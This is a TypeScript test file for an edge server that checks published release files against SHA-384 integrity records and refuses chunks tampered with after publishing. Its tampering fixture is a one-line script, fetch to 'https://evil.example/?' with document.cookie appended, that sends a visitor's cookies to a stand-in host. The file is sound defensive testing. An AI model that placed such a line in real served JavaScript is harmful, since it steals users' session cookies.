import { mkdirSync, mkdtempSync, readFileSync, rmSync, utimesSync, writeFileSync } from 'node:fs';
import { createServer, request, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createHash } from 'node:crypto';
import type { Logger } from 'pino';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { createEdge } from './app.ts';
import { createEdgeMetrics } from './releases/edge-metrics.ts';
import { metricValue } from './releases/metric-value.test-support.ts';
import {
  createReleaseFileVerifier,
  hashReleaseFolder,
  INTEGRITY_FILE,
  parseIntegrityDocument,
  serializeIntegrity,
  type FileCheck,
  type ReleaseFileVerifier,
} from './release-integrity.ts';
import { LIVE_SERVICE_NAMES } from './route-table.ts';
import type { Upstreams } from './upstreams.ts';
import { editInPlace } from './edit-in-place.test-support.ts';

const sri = (text: string) => `sha384-${createHash('sha384').update(text).digest('base64')}`;
/** When the release was published: whole seconds, so restoring a file's mtime restores it exactly. */
const PUBLISHED_AT = new Date('2026-01-01T00:00:00Z');
let dir: string;

beforeEach(() => {
  dir = mkdtempSync(join(tmpdir(), 'release-integrity-'));
  mkdirSync(join(dir, 'static'));
  writeFileSync(join(dir, 'remoteEntry.js'), 'entry');
  writeFileSync(join(dir, 'static', 'a.js'), 'chunk');
  for (const file of ['remoteEntry.js', 'static/a.js']) utimesSync(join(dir, file), PUBLISHED_AT, PUBLISHED_AT);
});
afterEach(() => rmSync(dir, { recursive: true, force: true }));


const bytesOf = (check: FileCheck) => (check.ok && check.file ? check.file.bytes.toString('utf8') : check);

describe('release integrity at the edge', () => {
  it('hashes every file of a release but its integrity.json, and writes one canonical document', async () => {
    writeFileSync(join(dir, 'integrity.json'), '{}');
    const files = await hashReleaseFolder(dir);
    expect(files).toEqual({ 'remoteEntry.js': sri('entry'), 'static/a.js': sri('chunk') });
    const text = serializeIntegrity({ 'static/a.js': sri('chunk'), 'remoteEntry.js': sri('entry') });
    expect(text).toBe(`{"algorithm":"sha384","files":{"remoteEntry.js":"${sri('entry')}","static/a.js":"${sri('chunk')}"}}`);
    expect(parseIntegrityDocument(text)).toEqual({ algorithm: 'sha384', files });
    expect(parseIntegrityDocument('{"algorithm":"md5","files":{}}')).toBeNull();
    expect(parseIntegrityDocument(`{"algorithm":"sha384","files":{"../x":"${sri('x')}"}}`)).toBeNull();
    expect(parseIntegrityDocument('nope')).toBeNull();
  });

  it('hands out the bytes it read and hashed; refuses other bytes and paths the record does not name; a recorded file that is gone is null', async () => {
    writeFileSync(join(dir, 'static', 'b.js'), 'CHUNK');
    const verifier = createReleaseFileVerifier({
      expected: async () => ({ 'remoteEntry.js': sri('entry'), 'static/a.js': sri('chunk'), 'static/b.js': sri('chunk'), 'static/gone.js': sri('gone') }),
    });
    expect(await verifier.verify('choices', 'v1', dir, 'remoteEntry.js')).toEqual({ ok: true, file: { bytes: Buffer.from('entry'), integrity: sri('entry') } });
    expect(await verifier.verify('choices', 'v1', dir, 'static/b.js')).toEqual({ ok: false, reason: `static/b.js has ${sri('CHUNK')}, published as ${sri('chunk')}` });
    for (const path of ['evil.js', 'constructor', '__proto__', 'static'])
      expect(await verifier.verify('choices', 'v1', dir, path), path).toMatchObject({ ok: false, reason: expect.stringContaining('not a file') });
    expect(await verifier.verify('choices', 'v1', dir, 'static/gone.js')).toEqual({ ok: true, file: null });
  });

  it('a file edited in place after it was verified: that verifier keeps handing out the verified bytes, never the edited ones; a fresh verifier refuses it', async () => {
    const expected = vi.fn(async () => ({ 'remoteEntry.js': sri('entry') }));
    const verifier = createReleaseFileVerifier({ expected });
    expect(bytesOf(await verifier.verify('choices', 'v1', dir, 'remoteEntry.js'))).toBe('entry');
    editInPlace(join(dir, 'remoteEntry.js'), 'ENTRY');
    expect(bytesOf(await verifier.verify('choices', 'v1', dir, 'remoteEntry.js'))).toBe('entry');
    expect(await createReleaseFileVerifier({ expected }).verify('choices', 'v1', dir, 'remoteEntry.js')).toMatchObject({ ok: false, reason: expect.stringContaining('published as') });
  });

  it('keeps at most maxCachedBytes of verified files, least recently used dropped first, and reads a dropped file (and one larger than the bound) again, checking it again', async () => {
    const sizes: Record<string, number> = { 'a.js': 40, 'b.js': 40, 'c.js': 40, 'd.js': 10, 'big.js': 150 };
    const contents = Object.fromEntries(Object.entries(sizes).map(([name, size]) => [name, name[0]!.repeat(size)]));
    for (const [name, text] of Object.entries(contents)) {
      writeFileSync(join(dir, name), text);
      utimesSync(join(dir, name), PUBLISHED_AT, PUBLISHED_AT);
    }
    const verifier = createReleaseFileVerifier({ expected: async () => Object.fromEntries(Object.entries(contents).map(([name, text]) => [name, sri(text)])), maxCachedBytes: 100 });
    const verify = (name: string) => verifier.verify('choices', 'v1', dir, name);

    await verify('a.js');
    await verify('b.js');
    expect(verifier.cached()).toEqual({ files: 2, bytes: 80 });
    await verify('a.js'); // a is now the most recently used
    await verify('c.js'); // 120 bytes: b goes
    expect(verifier.cached()).toEqual({ files: 2, bytes: 80 });
    expect(bytesOf(await verify('big.js'))).toBe(contents['big.js']); // verified, served, not kept
    expect(verifier.cached()).toEqual({ files: 2, bytes: 80 });

    editInPlace(join(dir, 'a.js'), 'A'.repeat(40));
    editInPlace(join(dir, 'b.js'), 'B'.repeat(40));
    editInPlace(join(dir, 'big.js'), 'G'.repeat(150));
    expect(bytesOf(await verify('a.js'))).toBe(contents['a.js']); // kept: the verified bytes
    expect(await verify('b.js')).toMatchObject({ ok: false }); // dropped: read again and refused
    expect(await verify('big.js')).toMatchObject({ ok: false }); // never kept: read again and refused
    for (const name of ['a.js', 'b.js', 'big.js']) writeFileSync(join(dir, name), contents[name]!);

    // However they are asked for, one at a time or many at once, the bound holds.
    const names = Object.keys(sizes);
    for (let round = 0; round < 200; round += 1) {
      const batch = Array.from({ length: 1 + (round % 7) }, (_, i) => names[(round * 7 + i * 3) % names.length]!);
      const checks = await Promise.all(batch.map(verify));
      for (const [i, check] of checks.entries()) expect(bytesOf(check)).toBe(contents[batch[i]!]);
      const { bytes, files } = verifier.cached();
      expect(bytes).toBeLessThanOrEqual(100);
      expect(files).toBeLessThanOrEqual(4);
    }
  });

  it('reads a file once for the checks that ask for it at the same time', async () => {
    const verifier = createReleaseFileVerifier({ expected: async () => ({ 'static/a.js': sri('chunk') }) });
    const checks = await Promise.all(Array.from({ length: 20 }, () => verifier.verify('choices', 'v1', dir, 'static/a.js')));
    const buffers = new Set(checks.map((check) => (check.ok ? check.file?.bytes : undefined)));
    expect(buffers.size).toBe(1);
    expect(verifier.cached()).toEqual({ files: 1, bytes: 5 });
  });

  it('leaves versions no edge registered unchecked: nothing is read, the file is the caller to read', async () => {
    const verifier = createReleaseFileVerifier({ expected: async () => null });
    expect(await verifier.verify('choices', 'v9', dir, 'remoteEntry.js')).toEqual({ ok: true });
    expect(verifier.cached()).toEqual({ files: 0, bytes: 0 });
  });
});

// No service is reached in these tests.
const NO_UPSTREAMS = Object.fromEntries(LIVE_SERVICE_NAMES.map((name) => [name, ''])) as Upstreams;
const CHUNK = 'static/js/chunk.0123abcd.js';
const CHUNK_TEXT = 'export const answer = () => "the published chunk";\n';
const EDITED_TEXT = 'fetch("https://evil.example/?"+document.cookie);//'.padEnd(CHUNK_TEXT.length, '/');

interface Answer {
  status: number;
  headers: Record<string, string | string[] | undefined>;
  body: string;
}

/** A request with node:http: fetch would add `Cache-Control: no-cache` to a conditional request. */
function ask(base: string, path: string, options: { method?: string; headers?: Record<string, string> } = {}): Promise<Answer> {
  return new Promise((resolve, reject) => {
    const req = request(`${base}${path}`, { method: options.method ?? 'GET', headers: options.headers }, (res) => {
      const chunks: Buffer[] = [];
      res.on('data', (chunk: Buffer) => chunks.push(chunk));
      res.on('end', () => resolve({ status: res.statusCode ?? 0, headers: res.headers, body: Buffer.concat(chunks).toString('utf8') }));
      res.on('error', reject);
    });
    req.on('error', reject);
    req.end();
  });
}

describe('an edge serving a published release', () => {
  let root: string;
  let record: Record<string, string>;
  const servers: Server[] = [];

  beforeEach(async () => {
    root = mkdtempSync(join(tmpdir(), 'release-edge-'));
    const release = join(root, 'releases', 'choices', 'v1');
    mkdirSync(join(release, 'static', 'js'), { recursive: true });
    mkdirSync(join(root, 'shell'));
    writeFileSync(join(release, 'mf-manifest.json'), '{}');
    writeFileSync(join(release, 'remoteEntry.js'), '/* entry */');
    writeFileSync(join(release, CHUNK), CHUNK_TEXT);
    for (const file of ['mf-manifest.json', 'remoteEntry.js', CHUNK]) utimesSync(join(release, file), PUBLISHED_AT, PUBLISHED_AT);
    // publish:remote's record, as the edge keeps it (in Postgres) from the first time it sees the version.
    writeFileSync(join(release, INTEGRITY_FILE), serializeIntegrity(await hashReleaseFolder(release)));
    record = parseIntegrityDocument(readFileSync(join(release, INTEGRITY_FILE), 'utf8'))!.files;
  });
  afterEach(async () => {
    await Promise.all(servers.splice(0).map((server) => new Promise((resolve) => server.close(resolve))));
    rmSync(root, { recursive: true, force: true });
  });

  /** A new edge (a restarted process, another replica) with its own verifier, metrics and log. */
  async function startEdge(verifyReleaseFile: ReleaseFileVerifier = createReleaseFileVerifier({ expected: async () => record })) {
    const metrics = createEdgeMetrics({ defaultMetrics: false });
    const logLines: Record<string, unknown>[] = [];
    const line = (level: string) => (obj: object, msg: string) => logLines.push({ ...obj, level, msg });
    const logger = { info: line('info'), warn: line('warn'), error: line('error') } as unknown as Logger;
    const app = createEdge({
      upstreams: NO_UPSTREAMS,
      staticRoots: { shell: join(root, 'shell'), remotes: { choices: join(root, 'dist') }, releases: join(root, 'releases') },
      remoteManifest: { choices: '/remotes/choices/mf-manifest.json' },
      verifyReleaseFile,
      metrics,
      logger,
      warmScreens: false,
    });
    const server = createServer(app.callback());
    servers.push(server);
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    const failures = () => metricValue(metrics.registry, 'release_file_integrity_failures_total', { remote: 'choices', version: 'v1' });
    return { base, logLines, failures };
  }

  const expectRefused = async (edge: Awaited<ReturnType<typeof startEdge>>, failures: number) => {
    const answer = await ask(edge.base, `/remotes/choices/v1/${CHUNK}`);
    expect(answer.status).toBe(500);
    expect(answer.headers['cache-control']).toBe('no-store');
    expect(answer.body).not.toContain('evil');
    expect(JSON.parse(answer.body)).toEqual({ message: `/remotes/choices/v1/${CHUNK} does not match what was published` });
    expect(edge.logLines).toContainEqual(
      expect.objectContaining({ level: 'error', msg: 'release file refused: it does not match what was published', remote: 'choices', version: 'v1', file: `/${CHUNK}`, reason: expect.stringContaining(`${CHUNK} has sha384-`) }),
    );
    expect(await edge.failures()).toBe(failures);
  };

  it('a chunk edited in place with its inode, size and mtime kept is refused by an edge that had not kept its verified bytes: 500, no-store, the file named in the error log, counted', async () => {
    const before = await startEdge();
    const served = await ask(before.base, `/remotes/choices/v1/${CHUNK}`);
    expect(served.status).toBe(200);
    expect(served.body).toBe(CHUNK_TEXT);

    editInPlace(join(root, 'releases', 'choices', 'v1', CHUNK), EDITED_TEXT);

    const fresh = await startEdge();
    await expectRefused(fresh, 1);
    await expectRefused(fresh, 2); // every time: a refused file is never kept
  });

  it('an edge that verified and kept a chunk keeps serving the verified bytes after it is edited in place, never the edited ones; once it drops them it reads the chunk again and refuses it', async () => {
    // Room for the chunk, or for the entry, not both.
    const verifier = createReleaseFileVerifier({ expected: async () => record, maxCachedBytes: CHUNK_TEXT.length + 5 });
    const edge = await startEdge(verifier);
    expect((await ask(edge.base, `/remotes/choices/v1/${CHUNK}`)).body).toBe(CHUNK_TEXT);

    editInPlace(join(root, 'releases', 'choices', 'v1', CHUNK), EDITED_TEXT);

    for (let i = 0; i < 3; i += 1) {
      const answer = await ask(edge.base, `/remotes/choices/v1/${CHUNK}`);
      expect(answer.status).toBe(200);
      expect(answer.body).toBe(CHUNK_TEXT);
    }
    expect(await edge.failures()).toBeUndefined();
    // The entry takes the chunk's place in memory; the chunk is read from disk again, and refused.
    expect((await ask(edge.base, '/remotes/choices/v1/remoteEntry.js')).body).toBe('/* entry */');
    expect(verifier.cached().files).toBe(1);
    await expectRefused(edge, 1);
  });

  it('a chunk edited in place right between its check and its sending (the attacker wins the race) is sent as it was checked, never as edited', async () => {
    const verifier = createReleaseFileVerifier({ expected: async () => record });
    let edited = false;
    const edge = await startEdge({
      verify: async (...args) => {
        const check = await verifier.verify(...args);
        if (!edited) {
          edited = true;
          editInPlace(join(root, 'releases', 'choices', 'v1', CHUNK), EDITED_TEXT);
        }
        return check;
      },
    });
    const answer = await ask(edge.base, `/remotes/choices/v1/${CHUNK}`);
    expect(edited).toBe(true);
    expect(answer.status).toBe(200);
    expect(answer.body).toBe(CHUNK_TEXT);
  });

  it('sends a verified file from its bytes with its content type and cache policy, an ETag from its hash, 304 when fresh, and HEAD with the headers of a GET', async () => {
    const edge = await startEdge();
    const get = await ask(edge.base, `/remotes/choices/v1/${CHUNK}`);
    expect(get.status).toBe(200);
    expect(get.headers).toMatchObject({
      'content-type': 'text/javascript; charset=utf-8',
      'cache-control': 'public, max-age=31536000, immutable',
      etag: `W/"${record[CHUNK]}"`,
      'content-length': String(CHUNK_TEXT.length),
      'access-control-allow-origin': '*',
    });
    const notModified = await ask(edge.base, `/remotes/choices/v1/${CHUNK}`, { headers: { 'if-none-match': get.headers.etag as string } });
    expect(notModified.status).toBe(304);
    expect(notModified.body).toBe('');
    const head = await ask(edge.base, `/remotes/choices/v1/${CHUNK}`, { method: 'HEAD' });
    expect(head.status).toBe(200);
    expect(head.body).toBe('');
    expect(head.headers).toMatchObject({ 'content-type': 'text/javascript; charset=utf-8', etag: get.headers.etag, 'content-length': String(CHUNK_TEXT.length) });
    expect((await ask(edge.base, '/remotes/choices/v1/mf-manifest.json')).headers['cache-control']).toBe('no-cache');
    // A recorded file that is not on disk is a 404; one the record does not name is refused.
    rmSync(join(root, 'releases', 'choices', 'v1', 'remoteEntry.js'));
    expect((await ask(edge.base, '/remotes/choices/v1/remoteEntry.js')).status).toBe(404);
    expect((await ask(edge.base, '/remotes/choices/v1/static/js/other.js')).status).toBe(500);
  });
});
